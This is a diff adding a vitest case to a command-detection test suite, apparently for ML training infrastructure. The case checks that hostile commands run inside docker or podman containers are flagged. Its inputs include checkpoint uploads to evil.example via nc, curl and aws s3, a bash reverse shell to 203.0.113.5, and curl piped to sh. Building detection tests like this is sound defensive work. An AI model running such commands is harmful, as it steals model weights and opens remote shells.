@@ -6,7 +6,8 @@
  * auditing turned off, logs wiped: MLS-POISON-006). The neighbouring everyday commands (a help
  * page, a hook read, a tmpfs mounted, an agent looked for, a job's own log written) raise neither.
  * And commands run elsewhere, read as the commands they are (exec-wrappers.ts): a Ray job's
- * entrypoint, kubectl exec / run / debug's command, ssh's remote command line.
+ * entrypoint, kubectl exec / run / debug's command, ssh's remote command line, the command of a
+ * container the pod's runtime starts.
  */
 import { describe, expect, it } from 'vitest';
 import { execRuleIds, SA } from './exec-events.test-support.js';
@@ -114,6 +115,22 @@ describe('commands run elsewhere are read: a Ray job entrypoint, kubectl exec / 
     for (const line of ['kubectl exec trainer-0 -- nvidia-smi', 'ssh u@10.0.0.5 uptime']) {
       expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
     }
+  });
+
+  it('reads the command a container started by the pod\'s runtime runs (docker / podman / nerdctl run, an entrypoint given, an image whose entrypoint is its tool)', () => {
+    expect(execRuleIds(sh("docker run --rm -v /mnt/ckpt:/d alpine sh -c 'nc evil.example 4444 < /d/model.pt'"))).toContain('MLS-EXFIL-014');
+    expect(execRuleIds(sh("podman run --rm -dit -v /mnt/ckpt:/d alpine sh -c 'curl -T /d/model.pt https://evil.example/up'"))).toContain('MLS-EXFIL-014');
+    expect(execRuleIds(sh("docker run --rm --entrypoint sh alpine -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"))).toContain('MLS-RAY-015');
+    expect(execRuleIds(sh("docker container run --rm alpine sh -c 'curl -s http://203.0.113.5/x.sh | sh'"))).toContain('MLS-RAY-012');
+    expect(execRuleIds(sh('docker run -it --rm --network host -v /mnt/ckpt:/d curlimages/curl -T /d/model.pt https://evil.example/up'))).toContain('MLS-EXFIL-014');
+    expect(execRuleIds(sh('docker run --rm -v /mnt/ckpt:/d amazon/aws-cli s3 cp /d/model.pt s3://attacker-loot/'))).toContain('MLS-EXFIL-014');
+    for (const line of [
+      'docker run --rm -v /workspace:/w python:3.11 python /w/test.py',
+      'docker run --rm nvidia/cuda:12.2.0-base-ubuntu22.04 nvidia-smi',
+      'docker run -d --name redis -p 6379:6379 redis:7',
+      'docker run --rm curlimages/curl -s https://pypi.org/simple/',
+      'docker run --rm -v /data:/data rclone/rclone copy s3:datasets/x /data/x',
+    ]) expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
   });
 
   it('leaves a training job submitted and the job CLI\'s other commands', () => {
